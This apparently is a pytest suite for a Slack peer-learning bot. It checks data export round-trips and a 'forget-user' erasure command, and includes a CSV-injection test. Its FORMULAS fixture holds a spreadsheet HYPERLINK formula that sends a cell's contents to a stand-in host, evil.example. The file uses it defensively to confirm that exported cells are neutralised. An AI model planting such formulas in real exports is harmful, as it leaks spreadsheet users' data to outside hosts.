"""`export` round-trips (JSON, CSV zip, CSV folder) and `forget-user` leaves no trace (SQLite and PostgreSQL)."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
import sqlalchemy as sa
from sqlalchemy import inspect, select, text

from bot import export
from bot.clock import FrozenClock
from bot.runtime import cli
from models.capture import QuestionSource, SavedMessage, SavedThread
from models.digest import DigestSubscription
from models.expert import FORGOTTEN_USER_ID, Expertise, Person, RouteRequest
from models.lesson import Lesson, LessonTag
from models.mentoring import MentorOffer, MentorPairing, MentorRequest
from models.onboarding import BuddyPairing, BuddyVolunteer, OnboardingSettings
from models.question import STATUS_OPEN, STATUS_RESOLVED, Answer, Question, QuestionTag, Vote
from models.session import Store
from models.sessions import LearningSession, SessionInvite, SessionPost, SessionSignup
from models.workspace import Workspace
from models.workspace_settings import SettingsChange, WorkspaceSetting

NOW = datetime(2026, 11, 23, 10, 0, tzinfo=UTC)
GONE = "U0GONE1"  # the person who asks to be forgotten


@pytest.fixture
def store(database_url):
    store = Store.from_url(database_url)
    yield store
    store.dispose()


@pytest.fixture
def run_cli(database_url, monkeypatch, capsys):
    """`python app.py …` in-process on the test's database; returns (exit code, stdout, stderr)."""
    monkeypatch.setenv("DATABASE_URL", database_url)
    monkeypatch.setattr("bot.clock.Clock", lambda: FrozenClock(NOW))

    def run(*argv: str) -> tuple[int, str, str]:
        code = cli.main(list(argv))
        out, err = capsys.readouterr()
        return code, out, err

    return run


def t(minutes: int) -> datetime:
    return NOW - timedelta(days=3) + timedelta(minutes=minutes)


def add_question(s, n: int, asker: str, body: str, tags: list[str], *, team: str = "T1", **extra: Any) -> Question:
    fields: dict[str, Any] = {"status": STATUS_OPEN, "message_ts": f"{n}.000", **extra}
    q = Question(
        team_id=team,
        channel_id="C1",
        asker_id=asker,
        text=body,
        request_key=f"req-{n}",
        created_at=t(n),
        tags=[QuestionTag(tag=tag, team_id=team, position=i) for i, tag in enumerate(tags)],
        **fields,
    )
    s.add(q)
    s.flush()
    return q


def add_answer(s, q: Question, n: int, user: str, body: str, **extra: Any) -> Answer:
    a = Answer(
        team_id=q.team_id,
        question_id=q.id,
        channel_id=q.channel_id,
        ts=f"{q.message_ts}.{n}",
        user_id=user,
        text=body,
        created_at=q.created_at + timedelta(minutes=n),
        **extra,
    )
    s.add(a)
    s.flush()
    return a


def accept(q: Question, a: Answer) -> None:
    q.status, q.accepted_answer_id, q.resolved_at = STATUS_RESOLVED, a.id, a.created_at + timedelta(minutes=5)


def add_vote(s, target: Answer | Lesson, voter: str, kind: str, reaction: str = "+1") -> None:
    is_answer = isinstance(target, Answer)
    s.add(
        Vote(
            team_id=target.team_id,
            channel_id=target.channel_id,
            message_ts=target.ts if is_answer else target.message_ts,  # type: ignore[union-attr]
            voter_id=voter,
            reaction=reaction,
            kind=kind,
            author_id=target.user_id if is_answer else target.author_id,  # type: ignore[union-attr]
            answer_id=target.id if is_answer else None,
            lesson_id=None if is_answer else target.id,
            created_at=NOW - timedelta(hours=1),
        )
    )


@pytest.fixture
def workspace(store):
    """Two workspaces; in T1, U0GONE1 asks, answers, teaches, votes, is voted for, routed to and mentioned."""
    with store.session() as s:
        s.add_all([Workspace(team_id="T1", created_at=NOW), Workspace(team_id="T2", created_at=NOW)])
        theirs = add_question(s, 1, GONE, "How do I rotate the on-call? <@U_B> said ask here", ["ops"])
        mine = add_question(s, 2, "U_A", "Who knows VACUUM? <@U0GONE1> maybe, or <@U0GONE1|gone>?", ["postgres"])
        tricky = add_question(s, 3, "U_B", 'Commas, "quotes",\nnew lines, émoji 🚀 and <!here>', ["csv", "ünïcode"])
        add_question(s, 4, "U_A", "Never posted", [], message_ts=None, status="unposted")
        gone_answer = add_answer(s, mine, 1, GONE, "VACUUM (VERBOSE) big_table; ping me, U0GONE1, if stuck")
        other = add_answer(s, mine, 2, "U_B", "Or autovacuum tuning", edited_at=t(30))
        add_answer(s, theirs, 1, "U_B", "", deleted_at=t(40))  # a file shared without text, then deleted
        b_answer = add_answer(s, theirs, 2, "U_B", "Use the rota sheet")
        accept(mine, gone_answer)
        accept(theirs, b_answer)
        lesson = Lesson(
            team_id="T1",
            channel_id="C1",
            author_id=GONE,
            text="Use git bisect",
            message_ts="9.000",
            request_key="lesson-1",
            created_at=t(50),
            tags=[LessonTag(tag="git", team_id="T1", position=0)],
        )
        others_lesson = Lesson(
            team_id="T1",
            channel_id="C1",
            author_id="U_B",
            text="Thanks <@U0GONE1> for this trick",
            message_ts="9.100",
            request_key="lesson-2",
            created_at=t(60),
            channel_private=False,
            tags=[LessonTag(tag="git", team_id="T1", position=0), LessonTag(tag="tips", team_id="T1", position=1)],
        )
        s.add_all([lesson, others_lesson])
        s.flush()
        add_vote(s, gone_answer, "U_A", "accept", "white_check_mark")
        add_vote(s, gone_answer, "U_B", "helpful")
        add_vote(s, other, GONE, "helpful")
        add_vote(s, b_answer, GONE, "accept", "white_check_mark")
        add_vote(s, lesson, "U_B", "helpful", "bulb")
        add_vote(s, others_lesson, GONE, "helpful", "bulb")
        s.add_all(
            [
                Expertise(team_id="T1", user_id=GONE, tag="postgres", declared_at=t(0)),
                Expertise(team_id="T1", user_id="U_B", tag="ops", declared_at=t(0)),
                Person(team_id="T1", user_id=GONE, real_name="Gone Person", tz="Europe/Berlin", notify_mode="daily"),
                Person(team_id="T1", user_id="U_B", real_name="Bea"),
                RouteRequest(team_id="T1", question_id=tricky.id, expert_id=GONE, send_at=t(3), reason="postgres"),
                RouteRequest(team_id="T1", question_id=theirs.id, expert_id="U_B", send_at=t(3), reason="ops"),
                DigestSubscription(team_id="T1", channel_id="C1", created_by=GONE, updated_at=NOW),
                # An admin's change of the escalation period in App Home (bot/workspace_settings.py).
                WorkspaceSetting(team_id="T1", name="escalation_hours", value="2", changed_at=t(70)),
                SettingsChange(
                    team_id="T1",
                    user_id=GONE,
                    changed_at=t(70),
                    setting="escalation_hours",
                    old_value="4",
                    new_value="2",
                ),
                WorkspaceSetting(team_id="T2", name="route_top_n", value="3", changed_at=t(70)),
                # The same person in another workspace of an Enterprise Grid keeps everything there.
                Person(team_id="T2", user_id=GONE, real_name="Gone Person"),
                Expertise(team_id="T2", user_id=GONE, tag="postgres", declared_at=t(0)),
            ]
        )
        add_question(s, 5, GONE, "A question in the other workspace", ["ops"], team="T2")
        installations = _table(s, "slack_installations")
        if installations is not None:
            s.execute(
                installations.insert().values(
                    client_id="1.2",
                    app_id="A1",
                    team_id="T1",
                    user_id=GONE,
                    user_token="xoxp-secret",
                    bot_token="xoxb-1",
                    is_enterprise_install=False,
                    installed_at=datetime(2026, 11, 1),
                )
            )


def _table(session, name: str) -> sa.Table | None:
    connection = session.connection()
    if not inspect(connection).has_table(name):
        return None
    return sa.Table(name, sa.MetaData(), autoload_with=connection)


MODELS = {
    "questions": Question,
    "answers": Answer,
    "lessons": Lesson,
    "votes": Vote,
    "expertise": Expertise,
    "settings": WorkspaceSetting,
    "settings_changes": SettingsChange,
    "question_sources": QuestionSource,
    "saved_threads": SavedThread,
    "saved_thread_messages": SavedMessage,
    "sessions": LearningSession,
    "session_posts": SessionPost,
    "session_signups": SessionSignup,
    "session_invites": SessionInvite,
    "mentor_offers": MentorOffer,
    "mentor_requests": MentorRequest,
    "mentor_pairings": MentorPairing,
    "onboarding_settings": OnboardingSettings,
    "buddy_volunteers": BuddyVolunteer,
    "buddy_pairings": BuddyPairing,
}


def db_rows(store: Store, team_id: str) -> dict[str, list[dict[str, Any]]]:
    """What the database holds, read independently of bot/export.py (ORM objects, tags via relationships)."""
    models = MODELS
    found: dict[str, list[dict[str, Any]]] = {}
    with store.session() as s:
        for name, model in models.items():
            table = model.__table__
            rows = []
            for obj in s.scalars(select(model).where(model.team_id == team_id)):
                row = {column.key: getattr(obj, column.key) for column in table.columns}
                if hasattr(obj, "tags"):
                    row["tags"] = obj.tag_names
                rows.append(row)
            found[name] = sorted(rows, key=lambda r: [str(r[c.key]) for c in table.primary_key.columns])
    return found


def sort_like_db(parsed: dict[str, list[dict[str, Any]]]) -> dict[str, list[dict[str, Any]]]:
    models = MODELS
    return {
        name: sorted(rows, key=lambda r: [str(r[c.key]) for c in models[name].__table__.primary_key.columns])
        for name, rows in parsed.items()
    }


# --- export -----------------------------------------------------------------------------------------


def test_json_export_round_trips(run_cli, store, workspace, tmp_path):
    target = tmp_path / "t1.json"
    code, _, err = run_cli("export", "--team", "T1", "--format", "json", "--output", str(target))
    assert (
        code == 0 and "4 questions, 4 answers, 2 lessons, 6 votes, 2 expertise, 1 settings, 1 settings_changes" in err
    )
    raw = json.loads(target.read_text(encoding="utf-8"))
    assert raw["format"] == "peerlearn-export" and raw["team_id"] == "T1" and raw["exported_at"] == NOW.isoformat()
    assert {q["text"] for q in raw["questions"]} >= {'Commas, "quotes",\nnew lines, émoji 🚀 and <!here>'}
    assert "A question in the other workspace" not in target.read_text(encoding="utf-8")
    expected = db_rows(store, "T1")
    assert sort_like_db(export.read_export(target)) == expected
    assert expected["questions"][2]["tags"] == ["csv", "ünïcode"]  # the fixture is what the test thinks it is


def test_json_export_to_standard_output(run_cli, store, workspace, tmp_path):
    code, out, _ = run_cli("export", "--team", "T2", "--format", "json")
    assert code == 0
    data = json.loads(out)
    assert [q["text"] for q in data["questions"]] == ["A question in the other workspace"]
    assert data["answers"] == [] and data["votes"] == [] and len(data["expertise"]) == 1
    assert [(row["name"], row["value"]) for row in data["settings"]] == [("route_top_n", "3")]
    assert data["settings_changes"] == []
    target = tmp_path / "t2.json"
    target.write_text(out, encoding="utf-8")
    assert sort_like_db(export.read_export(target)) == db_rows(store, "T2")


def test_csv_export_round_trips_as_a_zip_and_as_a_folder(run_cli, store, workspace, tmp_path, monkeypatch):
    expected = db_rows(store, "T1")
    archive = tmp_path / "t1.zip"
    code, _, err = run_cli("export", "--team", "T1", "--format", "csv", "--output", str(archive))
    assert code == 0 and str(archive) in err
    with zipfile.ZipFile(archive) as z:
        assert sorted(z.namelist()) == [
            "answers.csv",
            "buddy_pairings.csv",
            "buddy_volunteers.csv",
            "expertise.csv",
            "lessons.csv",
            "mentor_offers.csv",
            "mentor_pairings.csv",
            "mentor_requests.csv",
            "onboarding_settings.csv",
            "question_sources.csv",
            "questions.csv",
            "saved_thread_messages.csv",
            "saved_threads.csv",
            "session_invites.csv",
            "session_posts.csv",
            "session_signups.csv",
            "sessions.csv",
            "settings.csv",
            "settings_changes.csv",
            "votes.csv",
        ]
        questions = list(csv.DictReader(io.StringIO(z.read("questions.csv").decode("utf-8"), newline="")))
    assert [q["tags"] for q in questions] == ["ops", "postgres", "csv ünïcode", ""]
    assert questions[3]["message_ts"] == "" and questions[0]["channel_private"] == "true"
    assert sort_like_db(export.read_export(archive)) == expected

    folder = tmp_path / "t1-csv"
    code, _, _ = run_cli("export", "--team", "T1", "--format", "csv", "--output", str(folder))
    assert code == 0 and (folder / "votes.csv").exists()
    assert sort_like_db(export.read_export(folder)) == expected

    monkeypatch.chdir(tmp_path)
    code, _, err = run_cli("export", "--team", "T1", "--format", "csv")
    assert code == 0 and (tmp_path / "peerlearn-export-T1-20261123.zip").exists()


def test_export_refuses_an_unknown_team(run_cli, workspace):
    code, _, err = run_cli("export", "--team", "T9", "--format", "json")
    assert code == 1 and "No workspace T9" in err


# --- forget-user ----------------------------------------------------------------------------------------


def every_value(store: Store, team_id: str) -> list[tuple[str, str, str]]:
    """(table, column, value as text) for every column of every row of every table that belongs to the
    workspace (rows of tables without a team_id all count), read generically from the database itself."""
    found = []
    with store.session() as s:
        connection = s.connection()
        for name in inspect(connection).get_table_names():
            table = sa.Table(name, sa.MetaData(), autoload_with=connection)
            query = select(*[sa.cast(c, sa.LargeBinary if _is_blob(c) else sa.Text) for c in table.columns])
            if "team_id" in table.c:
                query = query.where(table.c.team_id == team_id)
            for row in connection.execute(query):
                for column, value in zip(table.columns, row, strict=True):
                    if value is not None:
                        as_text = value.decode("latin-1") if isinstance(value, bytes) else str(value)
                        found.append((name, column.name, as_text))
    return found


def _is_blob(column: sa.Column[Any]) -> bool:
    return isinstance(column.type, sa.LargeBinary | sa.types.NullType)


def places_with(store: Store, team_id: str, needle: str) -> set[str]:
    return {
        f"{table}.{column}" for table, column, value in every_value(store, team_id) if needle.lower() in value.lower()
    }


def test_forget_user_leaves_no_trace_of_them_anywhere(run_cli, store, workspace):
    before = places_with(store, "T1", GONE)
    assert {
        "questions.asker_id",
        "answers.user_id",
        "votes.voter_id",
        "people.user_id",
        "search_documents.body",
    } <= before

    code, out, err = run_cli("forget-user", "--team", "T1", "--user", GONE)
    assert code == 0, err
    assert f"Forgot {GONE} in T1" in out and "votes cast (deleted): 3" in out
    assert places_with(store, "T1", GONE) == set()
    assert places_with(store, "T2", GONE) >= {"people.user_id", "expertise.user_id", "questions.asker_id"}
    with store.session() as s:
        if s.get_bind().dialect.name == "sqlite":  # the full-text index no longer finds them either
            assert s.execute(text("SELECT count(*) FROM search_fts WHERE search_fts MATCH 'u0gone1'")).scalar() == 0


def test_forget_user_policy(run_cli, store, workspace):
    run_cli("forget-user", "--team", "T1", "--user", GONE)
    with store.session() as s:
        theirs = s.scalars(select(Question).where(Question.request_key == "req-1")).one()
        assert (theirs.asker_id, theirs.text, theirs.tag_names) == (FORGOTTEN_USER_ID, export.REDACTED_TEXT, ["ops"])
        mine = s.scalars(select(Question).where(Question.request_key == "req-2")).one()
        assert mine.text == "Who knows VACUUM? @former member maybe, or @former member?"
        assert mine.status == STATUS_RESOLVED and mine.accepted_answer_id is not None  # still answered
        accepted = s.get(Answer, mine.accepted_answer_id)
        assert (accepted.user_id, accepted.text) == (FORGOTTEN_USER_ID, export.REDACTED_TEXT)
        lessons = {lesson.request_key: lesson for lesson in s.scalars(select(Lesson))}
        assert (lessons["lesson-1"].author_id, lessons["lesson-1"].text) == (FORGOTTEN_USER_ID, export.REDACTED_TEXT)
        assert lessons["lesson-2"].text == "Thanks @former member for this trick"
        votes = s.scalars(select(Vote).where(Vote.team_id == "T1")).all()
        assert {v.voter_id for v in votes} == {"U_A", "U_B"}  # the votes they cast are gone
        assert sorted(v.author_id for v in votes) == [FORGOTTEN_USER_ID] * 3  # votes others gave them stay
        assert s.scalars(select(Expertise.user_id).where(Expertise.team_id == "T1")).all() == ["U_B"]
        assert s.scalars(select(RouteRequest.expert_id)).all() == ["U_B"]
        assert s.get(Person, ("T1", GONE)) is None and s.get(Person, ("T1", "U_B")) is not None
        assert s.get(DigestSubscription, ("T1", "C1")).created_by == FORGOTTEN_USER_ID
        [change] = s.scalars(select(SettingsChange)).all()  # what changed stays; who changed it is forgotten
        assert (change.user_id, change.old_value, change.new_value) == (FORGOTTEN_USER_ID, "4", "2")
        assert s.get(WorkspaceSetting, ("T1", "escalation_hours")).value == "2"
        untouched = s.scalars(select(Question).where(Question.team_id == "T1", Question.asker_id == "U_B")).one()
        assert untouched.text == 'Commas, "quotes",\nnew lines, émoji 🚀 and <!here>'
        installations = _table(s, "slack_installations")
        if installations is not None:
            row = s.execute(select(installations)).one()
            assert (row.user_id, row.user_token, row.bot_token) == (FORGOTTEN_USER_ID, None, "xoxb-1")
        document = s.execute(
            text("SELECT title, body FROM search_documents WHERE kind = 'question' AND ref_id = :id"), {"id": mine.id}
        ).one()
        assert tuple(document) == (mine.text, export.REDACTED_TEXT)


def test_forget_user_is_idempotent_and_a_dry_run_changes_nothing(run_cli, store, workspace):
    before = every_value(store, "T1")
    code, out, _ = run_cli("forget-user", "--team", "T1", "--user", GONE, "--dry-run")
    assert code == 0 and f"Would change {GONE}" in out and "Dry run: nothing was changed." in out
    assert every_value(store, "T1") == before

    assert run_cli("forget-user", "--team", "T1", "--user", GONE)[0] == 0
    after = every_value(store, "T1")
    code, out, _ = run_cli("forget-user", "--team", "T1", "--user", GONE)
    assert code == 0 and f"Nothing about {GONE} in T1." in out
    assert every_value(store, "T1") == after


def test_forget_user_changes_nothing_when_a_table_it_does_not_know_keeps_the_id(run_cli, store, workspace):
    with store.session() as s:
        s.execute(text("CREATE TABLE scratch_notes (id INTEGER PRIMARY KEY, team_id VARCHAR(32), owner VARCHAR(32))"))
        s.execute(text("INSERT INTO scratch_notes VALUES (1, 'T1', :u)"), {"u": GONE})
    try:
        before = every_value(store, "T1")
        code, _, err = run_cli("forget-user", "--team", "T1", "--user", GONE)
        assert code == 1 and "Nothing was changed" in err and "scratch_notes.owner" in err
        assert every_value(store, "T1") == before
    finally:
        with store.session() as s:
            s.execute(text("DROP TABLE scratch_notes"))


def test_forget_user_refuses_what_is_not_a_user_id(run_cli, workspace):
    for bad in ("u0gone1", "U1%", FORGOTTEN_USER_ID, "U 1"):
        code, _, err = run_cli("forget-user", "--team", "T1", "--user", bad)
        assert code == 1 and "not a Slack user id" in err, bad


FORMULAS = [
    '=HYPERLINK("https://evil.example/?q="&A1,"Click")',
    "+1 agreed",
    "-2+3",
    "@SUM(A1:A9)",
    "\tindented=1+1",
    "\r=1+1",
    "'quoted already",
    "plain text = fine",
]


def test_csv_cells_never_start_a_formula_and_json_stays_exact(run_cli, store, tmp_path):
    """OWASP's CSV injection advice: a cell starting with = + - @, tab or CR is prefixed with a single quote,
    so a spreadsheet shows it as text; read_export takes the quote off again; JSON keeps the text as it is."""
    with store.session() as s:
        s.add(Workspace(team_id="T1", created_at=NOW))
        for n, body in enumerate(FORMULAS, start=1):
            question = add_question(s, n, "U_A", body, ["ops"])
            add_answer(s, question, 1, "U_B", body)
    expected = db_rows(store, "T1")

    folder = tmp_path / "csv"
    assert run_cli("export", "--team", "T1", "--format", "csv", "--output", str(folder))[0] == 0
    marked = ["'" + body if body[:1] in ("=", "+", "-", "@", "\t", "\r", "'") else body for body in FORMULAS]
    for name in ("questions", "answers"):
        with (folder / f"{name}.csv").open(encoding="utf-8", newline="") as file:
            rows = list(csv.DictReader(file))
        assert [row["text"] for row in rows] == marked
        cells = [cell for row in rows for cell in row.values()]
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert sort_like_db(export.read_export(folder)) == expected

    target = tmp_path / "t1.json"
    assert run_cli("export", "--team", "T1", "--format", "json", "--output", str(target))[0] == 0
    data = json.loads(target.read_text(encoding="utf-8"))
    assert [q["text"] for q in data["questions"]] == FORMULAS
    assert sort_like_db(export.read_export(target)) == expected
